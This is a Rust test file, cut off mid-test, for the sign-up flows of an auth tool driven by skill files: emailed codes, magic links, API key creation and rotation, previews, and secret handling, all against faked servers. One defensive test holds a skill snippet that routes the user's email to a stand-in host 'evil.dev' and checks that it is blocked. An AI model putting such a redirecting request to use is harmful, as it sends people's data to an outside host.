//! Signing up by calls that a skill describes: links and codes by mail, keys at once, keys made with another key.

use std::path::{Path, PathBuf};

use authmd_tui::account::{Attempt, Ended, Layer, LayerKind, Mode, Proof, Verdict};
use authmd_tui::flow::discover::Way;
use authmd_tui::flow::signup::SignUp;
use authmd_tui::flow::target::Target;
use authmd_tui::flow::{Answer, Difference, Input, Outcome, Seen, SkillFile};
use authmd_tui::http::HttpError;
use authmd_tui::problem::Kind;
use authmd_tui::secret::Secret;
use authmd_tui::skill::Source;
use jiff::SignedDuration;
use serde_json::json;

use crate::support::play::{Fake, Play, answer};
use crate::support::{account, noon};

const NIGHTJAR: &str = "own.yaml";
const QUILLPOST: &str = "first.md";
const ASK: &str = "POST https://nightjar.dev/api/v1/auth/request-code";
const TAKE: &str = "POST https://nightjar.dev/api/v1/auth/verify-code";
const LOGIN: &str = "POST https://nightjar.dev/api/v1/auth/login";
const REDEEM: &str = "POST https://nightjar.dev/api/v1/auth/redeem";
const KEYS: &str = "POST https://nightjar.dev/api/v1/keys";
const ME: &str = "GET https://nightjar.dev/api/v1/me";

/// A sign-up by a skill, in one of its ways.
fn play(name: &str, mode: Mode, fake: Fake) -> Play {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/skills").join(name);
    let text = std::fs::read_to_string(path).expect("a skill");
    let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode));
    let mut play = Play::new(flow, fake);
    play.skill =
        Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text, seen: Seen::AsItWas }));
    play
}

fn nightjar() -> Fake {
    let mut fake = Fake::default();
    fake.json(ASK, json!({"success": true, "expiresAt": "2026-11-22T12:10:00Z", "ticket": "tk_1"}));
    fake.json(TAKE, json!({"success": true, "apiKey": "nj_1", "email": "ada@example.com"}));
    fake.json(LOGIN, json!({"success": true, "message": "Sent."}));
    fake.json(REDEEM, json!({"key": "nj_2"}));
    fake.json(KEYS, json!({"secret": "nj_3", "id": "k3"}));
    fake.on(ME, [answer(401, "{}"), answer(200, "{}")]);
    fake
}

/// With the address typed: what is sent is on the screen.
fn at_preview(mode: Mode, fake: Fake) -> Play {
    let mut play = play(NIGHTJAR, mode, fake);
    play.begin().pick(0).text("ada@example.com");
    assert_eq!(play.id(), "consent", "{}", play.problem());
    assert!(play.posts().is_empty(), "nothing is sent before it was seen");
    play
}

#[test]
fn a_code_by_mail_is_handed_in_for_a_key() {
    let mut play = at_preview(Mode::EmailCode, nightjar());
    let shown = play.text_shown();
    for line in [
        "POST https://nightjar.dev/api/v1/auth/request-code",
        "email: ada@example.com (yours)",
        "POST https://nightjar.dev/api/v1/auth/verify-code",
        "code: the code that you type",
        "ticket: what the first answer has",
        "No credential of yours goes with it.",
    ] {
        assert!(shown.contains(line), "{line}:\n{shown}");
    }
    play.confirm(true);
    assert_eq!(play.id(), "code");
    assert_eq!(play.screen().deadline.map(|end| end.to_string()).as_deref(), Some("2026-11-22T12:10:00Z"));
    play.text("abcd 234");
    assert!(play.problem().contains("not such a code"), "{}", play.problem());
    play.text("abcd 2345");
    let Outcome::Connected(account) = play.outcome() else { panic!("{:?}", play.screen()) };
    assert_eq!(play.last_body(), ["email=ada@example.com", "code=ABCD-2345", "ticket=tk_1"]);
    assert_eq!((account.mode, account.identity.as_deref()), (Mode::EmailCode, Some("ada@example.com")));
    assert_eq!(account.proof.map(|proof| proof.verdict), Some(Verdict::Accepted { status: 200 }));
    assert_eq!(play.saved[0].secrets.credential, Secret::new("nj_1"));
    let ends: Vec<_> = play.attempts.iter().map(|attempt| attempt.ended).collect();
    assert_eq!(ends, [Ended::Open, Ended::Done]);
    let done = play.done.join(" ");
    assert!(done.contains("attempt open http http save attempt done http"), "stored before anything else: {done}");
    assert!(
        play.requests
            .iter()
            .filter(|request| request.url.path() != "/api/v1/me")
            .all(|request| request.credential.is_none())
    );
}

#[test]
fn a_wrong_code_is_asked_again_and_not_for_ever() {
    let mut fake = nightjar();
    fake.on(TAKE, [answer(400, r#"{"error": "invalid_code", "message": "Nope."}"#)]);
    let mut play = at_preview(Mode::EmailCode, fake);
    play.confirm(true).text("ABCD-2345");
    assert_eq!(play.id(), "code");
    assert!(play.problem().contains("does not take this code (invalid_code, 400)"), "{}", play.problem());
    assert!(play.text_shown().contains("Nightjar says: Nope."), "{}", play.text_shown());
    play.text("ABCD-2346").text("ABCD-2347");
    let Outcome::Refused(problem) = play.outcome() else { panic!("{:?}", play.screen()) };
    assert!(problem.what.contains("does not take this code"));
    assert_eq!(play.posts().iter().filter(|call| **call == TAKE).count(), 3);
    assert_eq!(play.attempts.last().map(|attempt| attempt.ended), Some(Ended::Refused));
    assert!(play.saved.is_empty());
}

/// Nothing at all stands at the address: the code is not to blame.
#[test]
fn an_address_that_does_not_exist_is_not_laid_at_the_codes_door() {
    let mut fake = nightjar();
    fake.on(TAKE, [answer(404, "<h1>Not Found</h1>")]);
    let mut play = at_preview(Mode::EmailCode, fake);
    play.confirm(true).text("ABCD-2345");
    let problem = play.problem();
    assert!(problem.contains("has nothing at https://nightjar.dev/api/v1/auth/verify-code (404)"), "{problem}");
}

#[test]
fn another_code_is_mailed_when_the_person_wants_one() {
    let mut play = at_preview(Mode::EmailCode, nightjar());
    play.confirm(true).step(Input::Answer(Answer::NewCode));
    assert_eq!((play.id().as_str(), play.posts().len()), ("code", 2), "{:?}", play.posts());
    assert_eq!(play.bodies()[1], ["email=ada@example.com"]);
    play.text("ABCD-2345");
    assert!(matches!(play.outcome(), Outcome::Connected(_)));
}

#[test]
fn a_link_is_pasted_and_handed_in_and_never_opened_by_us() {
    let mut play = at_preview(Mode::MagicLink, nightjar());
    assert!(
        play.text_shown().contains("token: the link that you paste (from .params.link | split(\"token=\")[1])"),
        "{}",
        play.text_shown()
    );
    play.confirm(true);
    assert_eq!(play.id(), "paste");
    assert!(play.text_shown().contains("Nightjar says: Sent."), "{}", play.text_shown());
    play.text("not a link");
    assert!(play.problem().contains("not a link"));
    play.text("https://nightjar.dev/in?token=t9");
    assert!(matches!(play.outcome(), Outcome::Connected(_)), "{:?}", play.screen());
    assert_eq!(play.last_body(), ["token=t9"]);
    assert!(play.opened.is_empty() && play.requests.iter().all(|request| request.url.path() != "/in"));
    assert!(!format!("{:?}", play.requests).contains("t9"), "what was pasted is a secret");
    assert_eq!(play.saved[0].account.mode, Mode::MagicLink);
}

#[test]
fn the_key_behind_a_link_is_brought_by_the_person() {
    let mut fake = Fake::default();
    fake.on("POST https://quillpost.dev/api/auth/login", [answer(200, r#"{"sent": false}"#)]);
    fake.on("GET https://quillpost.dev/api/me", [answer(401, ""), answer(200, "{}")]);
    let mut play = play(QUILLPOST, Mode::MagicLink, fake);
    play.begin().pick(0).text("ada@example.com").confirm(true);
    assert_eq!(play.id(), "key");
    assert_eq!(play.screen().link.map(String::from).as_deref(), Some("https://quillpost.dev/dashboard"));
    let shown = play.text_shown();
    assert!(shown.contains("inbox") && shown.contains("Its skill says: Open the link in the mail"), "{shown}");
    let sent = play.requests.len();
    for _ in 0..2 {
        play.text("https://quillpost.dev/in?token=t1");
        assert!(play.problem().contains("That is the link, not the key."), "{}", play.problem());
    }
    assert_eq!(play.requests.len(), sent, "it is not tried as a key, however often it is pasted");
    play.text("qp_1");
    assert!(!play.text_shown().contains("Open the link in the mail"), "{}", play.text_shown());
    let Outcome::Connected(account) = play.outcome() else { panic!("{:?}", play.screen()) };
    assert_eq!((account.mode, account.identity.as_deref()), (Mode::MagicLink, Some("ada@example.com")));
    assert_eq!(play.posts().len(), 1);
    assert_eq!(play.attempts.last().map(|attempt| attempt.ended), Some(Ended::Done));
}

#[test]
fn a_key_that_comes_at_once_is_stored_first_and_claimed_later() {
    let mut fake = Fake::default();
    fake.json(
        "POST https://quillpost.dev/api/agents",
        json!({"agent": {"api_key": "qp_2", "name": "Ada", "claim_url": "https://quillpost.dev/claim/c1",
            "claim_expires_at": "2026-11-25T12:00:00Z", "verification_code": "reef-X4", "message": "Hello qp_2!"}}),
    );
    fake.on("GET https://quillpost.dev/api/me", [answer(401, ""), answer(200, "{}")]);
    let mut play = play(QUILLPOST, Mode::Direct, fake);
    play.begin().pick(0);
    assert_eq!(play.id(), "param:name");
    assert!(play.text_shown().contains("Its skill says: What it is called"));
    play.text(" ");
    assert!(play.problem().contains("Something has to stand there"));
    play.text("Ada");
    assert_eq!(play.id(), "param:description");
    play.text("");
    assert_eq!((play.id(), play.choices()), ("param:plan".into(), vec!["free".into(), "paid".into()]));
    play.pick(0);
    let shown = play.text_shown();
    assert!(shown.contains("name: Ada (yours)") && shown.contains("plan: free (yours)"), "{shown}");
    assert!(!shown.contains("description:"), "what is left out is not sent: {shown}");
    play.confirm(true);
    let Outcome::Connected(account) = play.outcome() else { panic!("{:?}", play.screen()) };
    let claim = Layer { kind: LayerKind::Claim, expires_at: Some(noon() + SignedDuration::from_hours(72)) };
    assert!(!account.claimed && account.layers.contains(&claim), "{account:?}");
    let kept = &play.saved[0];
    assert_eq!(kept.secrets.credential, Secret::new("qp_2"));
    assert_eq!(kept.secret_of(LayerKind::Claim), Some(&Secret::new("https://quillpost.dev/claim/c1 reef-X4")));
    let screen = play.screen();
    assert!(screen.discreet && screen.link.map(String::from).as_deref() == Some("https://quillpost.dev/claim/c1"));
    let shown = play.text_shown();
    assert!(shown.contains("it asks for: reef-X4") && shown.contains("in 3 days"), "{shown}");
    assert!(shown.contains("Quillpost says: Hello") && !shown.contains("qp_2"), "{shown}");
}

#[test]
fn a_key_is_made_with_one_that_is_held() {
    let mut held = account("Nightjar", "nightjar.dev", None, None);
    held.resource = "https://nightjar.dev/api/v1".into();
    let mut play = play(NIGHTJAR, Mode::Direct, nightjar());
    play.known.accounts = vec![held.clone()];
    play.held = Some(authmd_tui::account::Kept::new(held, Secret::new("nj_admin")));
    // Beside the account that is there.
    play.begin().pick(0).pick(2).text("ci").text("build");
    assert_eq!(play.id(), "param:credential");
    assert_eq!(play.choices().len(), 2);
    play.pick(0);
    let shown = play.text_shown();
    assert!(shown.contains("shown with it: api.nightjar.dev, as bearer") && !shown.contains("nj_admin"), "{shown}");
    play.confirm(true);
    let Outcome::Connected(account) = play.outcome() else { panic!("{:?}", play.screen()) };
    assert_eq!((account.mode, account.label.as_deref()), (Mode::Direct, Some("ci")));
    let post = play.requests.iter().find(|request| request.url.path() == "/api/v1/keys").expect("made");
    assert_eq!(post.credential.as_deref().map(|shown| shown.1.clone()), Some(Secret::new("nj_admin")));
    assert_eq!(play.saved[0].secrets.credential, Secret::new("nj_3"));
}

#[test]
fn without_a_key_to_make_it_with_one_is_pasted_and_not_kept() {
    let mut play = play(NIGHTJAR, Mode::Direct, nightjar());
    play.begin().pick(0).text("build");
    assert_eq!(play.id(), "key");
    play.text("two words");
    assert!(play.problem().contains("a key is one word"));
    play.text("nj_admin").confirm(true);
    assert!(matches!(play.outcome(), Outcome::Connected(_)), "{:?}", play.screen());
    assert_eq!(play.saved.len(), 1);
    assert!(play.saved[0].secrets.iter().all(|secret| *secret != Secret::new("nj_admin")));
}

#[test]
fn nothing_is_sent_without_a_yes_and_a_dry_run_ends_with_what_would_be() {
    let mut play = at_preview(Mode::EmailCode, nightjar());
    play.confirm(false);
    assert_eq!((play.outcome(), play.posts().len()), (Outcome::Cancelled, 0));
    assert!(play.attempts.is_empty(), "nothing was sent, so nothing is written down");

    for mode in [Mode::EmailCode, Mode::MagicLink] {
        let mut play = play_dry(mode);
        play.begin().pick(0).text("ada@example.com");
        assert_eq!((play.outcome(), play.posts().len()), (Outcome::Found, 0));
        let shown = play.text_shown();
        assert!(shown.contains("email: ada@example.com") && shown.contains("Nothing was sent."), "{shown}");
    }
}

fn play_dry(mode: Mode) -> Play {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/skills").join(NIGHTJAR);
    let text = std::fs::read_to_string(path).expect("a skill");
    let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode)).dry();
    let mut play = Play::new(flow, nightjar());
    play.skill =
        Some(Ok(SkillFile { source: Source::File(PathBuf::from("/skills/skill.yaml")), text, seen: Seen::AsItWas }));
    play
}

#[test]
fn who_has_signed_up_before_is_told_before_it_is_done_again() {
    let mut play = play(NIGHTJAR, Mode::EmailCode, nightjar());
    let attempt =
        |ended| Attempt { resource: "https://nightjar.dev/api/v1".into(), mode: Mode::EmailCode, at: noon(), ended };
    play.known.attempts = vec![attempt(Ended::Open), attempt(Ended::Done), attempt(Ended::Open)];
    play.begin().pick(0).text("ada@example.com");
    let shown = play.text_shown();
    assert!(shown.contains("as far as is known here, the last of 2") && shown.contains("it went well"), "{shown}");
    assert!(shown.contains("Once more may make a second account"), "{shown}");
}

#[test]
fn an_answer_that_did_not_come_is_not_asked_for_twice_without_a_word() {
    for (error, arrived) in [
        (HttpError::TimedOut(SignedDuration::from_secs(30)), true),
        (HttpError::Broken("reset".into()), true),
        (HttpError::Unreachable("refused".into()), false),
    ] {
        let mut fake = nightjar();
        fake.on(ASK, [Err(error), answer(200, r#"{"expiresAt": "2026-11-22T12:10:00Z"}"#)]);
        let mut play = at_preview(Mode::EmailCode, fake.clone());
        play.confirm(true);
        assert_eq!(play.id(), "confirm");
        let said = if arrived { "Nobody knows whether Nightjar has mailed it" } else { "Nothing reached Nightjar" };
        assert!(play.text_shown().contains(said), "{}", play.text_shown());
        assert_eq!(play.posts().len(), 1);
        play.confirm(true);
        assert_eq!((play.id().as_str(), play.posts().len()), ("code", 2));

        let mut play = at_preview(Mode::EmailCode, fake);
        play.confirm(true).confirm(false);
        assert!(matches!(play.outcome(), Outcome::Failed(_)), "{:?}", play.outcome());
        assert_eq!(play.attempts.last().map(|attempt| attempt.ended), Some(Ended::Open));
    }
}

/// A skill may say `sent: 'true'` whatever comes; the status decides.
#[test]
fn whether_it_went_well_is_told_by_the_service() {
    let refused = |status: u16, body: &str, kind: Kind, said: &str| {
        let mut fake = Fake::default();
        fake.on("POST https://quillpost.dev/api/auth/login", [answer(status, body)]);
        let mut play = play(QUILLPOST, Mode::MagicLink, fake);
        play.begin().pick(0).text("ada@example.com").confirm(true);
        let outcome = play.outcome();
        let problem = outcome.problem().unwrap_or_else(|| panic!("{status}: {outcome:?}"));
        assert!(problem.kind == kind && problem.what.contains(said), "{status}: {problem:?}");
        play
    };
    let play = refused(403, r#"{"message": "Not from here."}"#, Kind::ServiceRefused, "Quillpost says no (403)");
    assert!(play.text_shown().contains("Quillpost says: Not from here."), "{}", play.text_shown());
    assert_eq!(play.attempts.last().map(|attempt| attempt.ended), Some(Ended::Refused));
    refused(200, r#"{"success": false, "error": "blocked"}"#, Kind::ServiceRefused, "says no");
    refused(429, r#"{"retry_after": 60}"#, Kind::ServiceRefused, "too many requests");
    refused(302, "", Kind::ServiceRefused, "says no (302)");
}

#[test]
fn a_yes_without_a_key_is_told_as_one_that_may_have_made_something() {
    for body in [r#"{"agent": {}}"#, r#"{"agent": {"api_key": 3}}"#, "<html>", ""] {
        let mut fake = Fake::default();
        fake.on("POST https://quillpost.dev/api/agents", [answer(200, body)]);
        let mut play = play(QUILLPOST, Mode::Direct, fake);
        play.begin().pick(0).text("Ada").text("").pick(0).confirm(true);
        let Outcome::Refused(problem) = play.outcome() else { panic!("{body}: {:?}", play.screen()) };
        assert!(problem.what.contains("said yes, and no key was found"), "{problem:?}");
        assert!(problem.hint.contains("before you sign up again"), "{problem:?}");
        assert_eq!(play.attempts.last().map(|attempt| attempt.ended), Some(Ended::Open), "nobody knows");
    }
}

#[test]
fn a_skill_that_would_send_elsewhere_is_stopped_before_it_is_asked() {
    let text = "id: a\nwebsite: https://a.dev\nauth: {type: api_key}\nsignup:\n  - mode: magic_link\n    request: {url: '\"https://evil.dev/\" + .params.email', body: {email: .params.email}}\n";
    let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(Mode::MagicLink));
    let mut play = Play::new(flow, Fake::default());
    play.skill = Some(Ok(SkillFile {
        source: Source::File(PathBuf::from("/skills/skill.yaml")),
        text: text.into(),
        seen: Seen::AsItWas,
    }));
    play.begin().pick(0).text("ada@example.com");
    let Outcome::Refused(problem) = play.outcome() else { panic!("{:?}", play.screen()) };
    assert!(problem.what.contains("evil.dev is not of the site of a.dev"), "{problem:?}");
    assert!(play.posts().is_empty());
}

#[test]
fn the_way_back_asks_anew_what_was_typed() {
    let mut play = at_preview(Mode::EmailCode, nightjar());
    assert!(play.screen().can_go_back);
    play.step(Input::Back);
    assert_eq!(play.id(), "email");
    play.text("nobody");
    assert!(play.problem().contains("not an e-mail address"));
    play.text("eve@example.com");
    assert!(play.text_shown().contains("email: eve@example.com"));
    play.confirm(true);
    assert!(!play.screen().can_go_back, "what was sent is not taken back");
    let at_stake = play.screen().at_stake.expect("something would be lost");
    assert!(at_stake.contains("not finished"), "{at_stake}");
    play.step(Input::Cancel);
    assert_eq!(play.outcome(), Outcome::Cancelled);
}

/// What is on its way may be a key that is shown once.
#[test]
fn who_leaves_while_a_key_is_on_its_way_gets_it_stored_all_the_same() {
    let mut play = play(NIGHTJAR, Mode::Direct, nightjar());
    play.slow = Some(KEYS.into());
    play.begin().pick(0).text("build").text("nj_admin").confirm(true);
    play.step(Input::Cancel);
    play.arrives();
    assert!(matches!(play.outcome(), Outcome::Connected(_)), "{:?}", play.screen());
    assert_eq!(play.saved[0].secrets.credential, Secret::new("nj_3"));
}

#[test]
fn a_key_is_tried_as_its_service_is_known_to_answer_or_not_at_all() {
    let skill = |verify: &str| {
        format!(
            "id: a\nwebsite: https://a.dev\nauth: {{type: api_key, help_url: https://a.dev/keys}}\nverify: {verify}\n"
        )
    };
    let play = |verify: &str, fake: Fake| {
        let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::Key);
        let mut play = Play::new(flow, fake);
        play.skill = Some(Ok(SkillFile {
            source: Source::File(PathBuf::from("/skills/skill.yaml")),
            text: skill(verify),
            seen: Seen::AsItWas,
        }));
        play.begin().pick(0).text("sk_1");
        play
    };
    // A no with a 200.
    let mut fake = Fake::default();
    fake.on("GET https://a.dev/test", [answer(200, r#"{"ok": false}"#), answer(200, r#"{"ok": false}"#)]);
    let refused = play("{url: https://a.dev/test, says: .ok}", fake);
    assert!(refused.problem().contains("refuses this key (200)") && refused.saved.is_empty(), "{}", refused.problem());
    let mut fake = Fake::default();
    let (no, yes) = (r#"{"ok": false}"#, r#"{"ok": true}"#);
    let answers = [no, yes, no, yes];
    fake.on("GET https://a.dev/test", answers.map(|body| answer(200, body)));
    let accepted = play("{url: https://a.dev/test, says: .ok}", fake);
    let Outcome::Connected(account) = accepted.outcome() else { panic!("{:?}", accepted.screen()) };
    assert_eq!(account.proof.map(|proof| proof.verdict), Some(Verdict::Accepted { status: 200 }));
    // One that works and may do little.
    let mut fake = Fake::default();
    fake.on("GET https://a.dev/test", [answer(401, "{}"), answer(403, "{}"), answer(403, "{}")]);
    let narrow = play("{url: https://a.dev/test, narrow: [403]}", fake);
    let Outcome::Connected(account) = narrow.outcome() else { panic!("{:?}", narrow.screen()) };
    assert_eq!(account.proof.map(|proof| proof.verdict), Some(Verdict::Accepted { status: 403 }));
    // Nobody knows a harmless call.
    let untried = play("none", Fake::default());
    let Outcome::Connected(account) = untried.outcome() else { panic!("{:?}", untried.screen()) };
    assert!(untried.requests.is_empty() && account.proof.is_none() && !account.can_be_tried());
    assert!(untried.text_shown().contains("tried: no; no harmless call is known"), "{}", untried.text_shown());
    let mut verify = Play::of(*account, authmd_tui::flow::verify::Verify::new, Fake::default());
    verify.begin();
    assert!(matches!(verify.outcome(), Outcome::Checked(_)) && verify.requests.is_empty());
    assert!(verify.text_shown().contains("cannot be checked"), "{}", verify.text_shown());
}

/// A skill says where secrets go; a change of it is not taken without a word.
#[test]
fn a_skill_that_has_changed_is_shown_before_it_is_used() {
    let play = |seen: Seen| {
        let mut play = play(NIGHTJAR, Mode::EmailCode, nightjar());
        play.skill = play.skill.map(|skill| skill.map(|file| SkillFile { seen, ..file }));
        play.begin();
        play
    };
    let new = play(Seen::Never);
    assert!(new.id() == "offer" && new.done.contains(&"pin".to_owned()), "remembered from the first time on");
    assert!(!play(Seen::AsItWas).done.contains(&"pin".to_owned()));

    let line = |text: &str| text.to_owned();
    let changed = Seen::Otherwise(vec![
        Difference::Same(line("signup:")),
        Difference::Gone(line("url: /auth")),
        Difference::New(line("url: /elsewhere")),
    ]);
    let mut stopped = play(changed.clone());
    assert_eq!(stopped.id(), "confirm");
    let shown = stopped.text_shown();
    assert!(shown.contains("- url: /auth") && shown.contains("+ url: /elsewhere"), "{shown}");
    stopped.confirm(false);
    assert_eq!(stopped.outcome(), Outcome::Cancelled);
    assert!(!stopped.done.contains(&"pin".to_owned()));
    let mut used = play(changed);
    used.confirm(true);
    assert!(used.id() == "offer" && used.done.contains(&"pin".to_owned()));
}

/// With a key that works, its API makes the next one; with one that does not, the page is what is left.
#[test]
fn a_dead_key_makes_no_other_one() {
    for (status, first) in [(200, "A new key, made with one that you have"), (401, "A key from its page")] {
        let mut held = account("Nightjar", "nightjar.dev", None, None);
        held.resource = "https://nightjar.dev/api/v1".into();
        held.mode = Mode::Direct;
        held.metadata = Some("file:///skills/skill.yaml".parse().expect("a url"));
        held.start = "https://nightjar.dev/api/v1/me".parse().expect("a url");
        let verdict = if status == 200 { Verdict::Accepted { status } } else { Verdict::Refused { status } };
        held.proof = Some(Proof { at: noon(), verdict });
        let mut play = play(NIGHTJAR, Mode::Direct, nightjar());
        play.flow = Box::new(SignUp::again(held.clone()).expect("a flow"));
        play.known.accounts = vec![held];
        let Some(Ok(file)) = &mut play.skill else { panic!("a skill") };
        file.text = file.text.replace("label: Key}", "label: Key, help_url: https://nightjar.dev/keys}");
        play.begin();
        assert_eq!(play.choices().first().map(String::as_str), Some(first), "{:?}", play.choices());
        assert!(
            play.choices().iter().all(|choice| choice.starts_with("A key from") || choice.starts_with("A new key"))
        );
    }
}

/// A new key, made, stored and tried; only then the old one goes, and only if somebody wants that.
#[test]
fn a_key_is_rotated() {
    let mut held = account("Nightjar", "nightjar.dev", None, None);
    held.resource = "https://nightjar.dev/api/v1".into();
    held.mode = Mode::Direct;
    held.metadata = Some("file:///skills/skill.yaml".parse().expect("a url"));
    held.start = "https://nightjar.dev/api/v1/me".parse().expect("a url");
    held.more.key_id = Some("k/1".into());
    let end = "DELETE https://nightjar.dev/api/v1/keys/k%2F1";
    let rotate = |fake: Fake| {
        let mut play = self::play(NIGHTJAR, Mode::Direct, fake);
        play.flow = Box::new(SignUp::again(held.clone()).expect("a flow"));
        play.known.accounts = vec![held.clone()];
        play.known.ids = vec![held.id.clone()];
        play.held = Some(authmd_tui::account::Kept::new(held.clone(), Secret::new("nj_old")));
        play.begin().pick(0).text("build").pick(0).confirm(true);
        assert_eq!(play.id(), "confirm", "{:?}", play.screen());
        assert!(play.text_shown().contains(end), "{}", play.text_shown());
        assert_eq!((play.saved.len(), play.saved[0].secrets.credential.clone()), (1, Secret::new("nj_3")));
        assert_eq!(play.saved[0].account.more.key_id.as_deref(), Some("k3"));
        play
    };
    let mut fake = nightjar();
    fake.on(end, [answer(204, "")]);
    let mut play = rotate(fake);
    assert!(play.requests.iter().all(|request| request.method.as_str() != "DELETE"), "asked first");
    play.confirm(true);
    assert!(matches!(play.outcome(), Outcome::Connected(_)));
    let ended = play.requests.last().expect("a call");
    assert_eq!(ended.credential.as_deref().map(|shown| shown.1.clone()), Some(Secret::new("nj_old")));
    assert!(play.text_shown().contains("The former key was ended"), "{}", play.text_shown());

    let mut fake = nightjar();
    fake.on(end, [answer(403, "")]);
    let mut refused = rotate(fake);
    refused.confirm(true);
    assert!(refused.text_shown().contains("was not ended: the service said 403"), "{}", refused.text_shown());
    let mut left = rotate(nightjar());
    left.confirm(false);
    assert!(matches!(left.outcome(), Outcome::Connected(_)));

    // The new one does not work: nothing is ended.
    let mut fake = nightjar();
    fake.on(ME, [answer(401, "{}"), answer(401, "{}")]);
    let mut play = self::play(NIGHTJAR, Mode::Direct, fake);
    play.flow = Box::new(SignUp::again(held.clone()).expect("a flow"));
    play.known.accounts = vec![held.clone()];
    play.held = Some(authmd_tui::account::Kept::new(held.clone(), Secret::new("nj_old")));
    play.begin().pick(0).text("build").pick(0).confirm(true);
    assert!(play.text_shown().contains("turns it away (401). The old one works yet"), "{}", play.text_shown());
    play.confirm(false);
    assert!(matches!(play.outcome(), Outcome::Connected(_)), "{:?}", play.screen());
    assert!(play.requests.iter().all(|request| request.method.as_str() != "DELETE"));
}

/// A sign-up by a skill of these words, in that mode.
fn described(text: &str, mode: Mode, fake: Fake) -> Play {
    let flow = SignUp::new(Target::parse("./skill.yaml").expect("a target"), None).only(Way::of(mode));
    let mut play = Play::new(flow, fake);
    let text = format!("id: a\nwebsite: https://a.dev\nauth: {{type: api_key}}\nsignup:\n{text}");
    let source = Source::File(PathBuf::from("/skills/skill.yaml"));
    play.skill = Some(Ok(SkillFile { source, text, seen: Seen::AsItWas }));
    play.begin().pick(0);
    play
}

#[test]
fn a_wish_for_another_code_sends_nothing_that_was_not_agreed_to() {
    let invited =
        "  - mode: direct\n    request: {url: /k, body: {code: .params.code}, response: {mapping: {api_key: .k}}}\n";
    let mut play = described(invited, Mode::Direct, Fake::default());
    assert_eq!(play.id(), "code");
    play.step(Input::Answer(Answer::NewCode));
    assert_eq!((play.id().as_str(), play.posts().len()), ("code", 0), "nobody has agreed to anything");

    // What the person typed stays, whatever the first answer calls by its name.
    let mut fake = Fake::default();
    fake.json("POST https://a.dev/ask", json!({"email": "ada@example.com", "t": "t1"}));
    let mailed = "  - mode: email_code\n    request: {url: /ask, body: {email: .params.email}, response: {mapping: {email: .email, t: .t}}}\n    redeem: {url: /take, body: {code: .params.code, t: .params.t}, response: {mapping: {api_key: .k}}}\n";
    let mut play = described(mailed, Mode::EmailCode, fake);
    play.text("ada@example.com").confirm(true).step(Input::Answer(Answer::NewCode));
    assert_eq!(play.bodies(), [["email=ada@example.com"], ["email=ada@example.com"]]);
    assert_eq!(play.done.iter().filter(|done| *done == "attempt open").count(), 2, "each was written down before");
    // A link is mailed again only when that is meant: the key for it stands for other things elsewhere.
    let mut play = at_preview(Mode::MagicLink, nightjar());
    play.confirm(true).step(Input::Answer(Answer::NewCode));
    assert_eq!((play.id().as_str(), play.posts().len()), ("confirm", 1));
    play.confirm(true);
    assert_eq!((play.id().as_str(), play.posts().len()), ("paste", 2));
}

#[test]
fn a_key_is_not_lost_for_what_stands_beside_it() {
    let made = |mapping: &str| {
        format!("  - mode: direct\n    request: {{method: POST, url: /k, response: {{mapping: {{{mapping}}}}}}}\n")
    };
    let mut fake = Fake::default();
    fake.json("POST https://a.dev/k", json!({"keys": ["sk_1"], "n": "x"}));
    fake.on("GET https://a.dev/", [answer(401, ""), answer(200, "{}")]);
    // Something else that cannot be worked out.
    let mut play = described(&made("api_key: '.keys[0]', count: '.n - 1'"), Mode::Direct, fake.clone());
    play.confirm(true);
    assert!(matches!(play.outcome(), Outcome::Connected(_)), "{:?}", play.screen());
    // Somebody who leaves while it is read.
    let mut play = described(&made("api_key: '.keys | .[0]'"), Mode::Direct, fake.clone());
    play.slow = Some("POST https://a.dev/k".into());
    play.confirm(true).step(Input::Cancel);
    play.arrives();
    assert_eq!(play.saved.first().map(|kept| kept.secrets.credential.clone()), Some(Secret::new("sk_1")));
    // It is there, and cannot be worked out: nothing of it is repeated.
    let mut play = described(&made("api_key: '.keys[0] | .value'"), Mode::Direct, fake);
    play.confirm(true);
    let told = format!("{:?}", play.screen());
    assert!(told.contains("no key was found") && !told.contains("sk_1"), "{told}");
}

#[test]
fn what_was_made_of_a_link_is_not_repeated() {
    let redeem = |url: &str| {
        format!(
            "  - mode: magic_link\n    request: {{url: /ask, body: {{email: .params.email}}}}\n    redeem: {{method: POST, url: '{url}', body: {{t: '(.params.link | capture(\"token=(?<t>.+)\")).t'}}, response: {{mapping: {{api_key: .k}}}}}}\n"
        )
    };
    let mut fake = Fake::default();
    fake.json("POST https://a.dev/ask", json!({}));
    fake.on("POST https://a.dev/take", [answer(410, r#"{"message": "The token t_abc is too old."}"#)]);
    let paste = |url: &str| {
        let mut play = described(&redeem(url), Mode::MagicLink, fake.clone());
        play.text("ada@example.com").confirm(true).text("http://a.dev/in?token=t_abc");
        format!("{:?} {:?}", play.screen(), play.requests)
    };
    let told = paste("/take");
    assert!(told.contains("is too old") && !told.contains("t_abc"), "{told}");
    // An address that is worked out, and may not be contacted.
    let told = paste("(.params.link)");
    assert!(told.contains("is not contacted") && !told.contains("t_abc"), "{told}");
    // Below the address of the service, as one that stands there.
    let told = paste("\"/ta\" + \"ke\"");
    assert!(told.contains("is too old"), "{told}");
}

#[test]
fn the_preview_has_everything_that_is_sent() {
    let text = "  - mode: email_code\n    params: {email: string, days: {type: integer, default: 30}, plan: {enum: [1, 2]}, who: string}\n    request: {url: '/users/{who}/signup', body: {email: .params.email, days: .params.days, plan: .params.plan}}\n    redeem: {url: /take, body: {code: .params.code, all: '. | tojson'}, response: {mapping: {api_key: .k}}}\n";
    let mut fake = Fake::default();
    fake.json("POST https://a.dev/users/ada/signup", json!({}));
    let mut play = described(text, Mode::EmailCode, fake);
    play.text("ada@example.com").text("").pick(1).text("ada");
    let shown = play.text_shown();
    for line in [
        "POST https://a.dev/users/ada/signup",
        "days: 30 (yours)",
        "plan: 2 (yours)",
        "all: worked out then (from . | tojson)",
        "Once the key is here it is tried: GET https://a.dev/",
    ] {
        assert!(shown.contains(line), "{line}: {shown}");
    }
    play.confirm(true);
    let sent = play.requests.last().and_then(|request| request.body.text()).map(|(_, text)| text.to_string());
